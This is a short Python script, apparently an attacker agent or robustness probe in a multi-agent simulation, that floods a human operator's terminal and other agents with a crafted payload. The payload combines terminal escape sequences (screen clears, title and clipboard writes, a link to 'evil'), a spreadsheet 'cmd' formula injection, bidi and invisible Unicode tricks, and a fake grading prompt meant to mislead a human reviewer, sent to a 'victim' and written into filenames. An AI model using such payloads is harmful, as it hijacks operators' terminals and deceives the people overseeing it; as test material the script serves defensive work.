"""Writes to the operator whatever a terminal might obey, through every text that reaches one."""

import os
import sys

from client import BUNDLE, call

NASTY = (
    "=cmd|'/c calc'!A1\x1b[2J\x1b[1;1H\x1b[31m\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x1b\\\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
    "\x9b2J\x9d0;owned\x9c\x90q\x9c\x1bP+q\x1b\\\u202edetrever\u202c\u2066x\u2069\u200b\ufeff\U000e0041"
    "\r\x08\x08\x7f\n\u2028╰───────\n? Your marks for prompt_9, 0 to 10 each\nbp-agents: faked (internal)\n\x1b[6n\x05\x0e" + "e" + "\u0301" * 500
)
short = NASTY[:190]
for name in (b"\x1b]0;owned\x07", b"a\nb\x1b[2J", b"\xc2\x9b2J"):
    open(name, "w").close()
print(call("POST", "/human/prompt", {"title": short, "content": NASTY}))
print(call("POST", "/social/message", {"to": "victim", "content": NASTY}))
print(call("POST", "/economic/transfer", {"to": "victim", "amount": 1, "memo": short}))
print(call("POST", "/market/bid", {"bundle": BUNDLE, "amount": 20, "earliest_cycle": 200, "payload": {NASTY: NASTY}}))
for number, name in enumerate(("\x1b]0;owned\x07", "a\u202eb", "\x9b2J", "a\nb", "plain")):
    spawn = {"id": f"child-{number}", "initial_credits": 160, "first_bid": {"bundle": BUNDLE, "amount": 20}, "files": {"main.py": "print(1)\n", name: "x"}}
    print(call("POST", "/social/spawn", spawn))
print(call("POST", "/social/spawn", {"id": "\x1b[2J", "initial_credits": 160, "first_bid": {"bundle": BUNDLE, "amount": 20}, "files": {"main.py": ""}}))
sys.stdout.flush()
os.write(1, NASTY.encode("utf-8", "surrogatepass") + b"\n\xff\xfe\x1b[2J\x9b1m\n" + b"x" * 50_000 + b"\n")
os._exit(0)
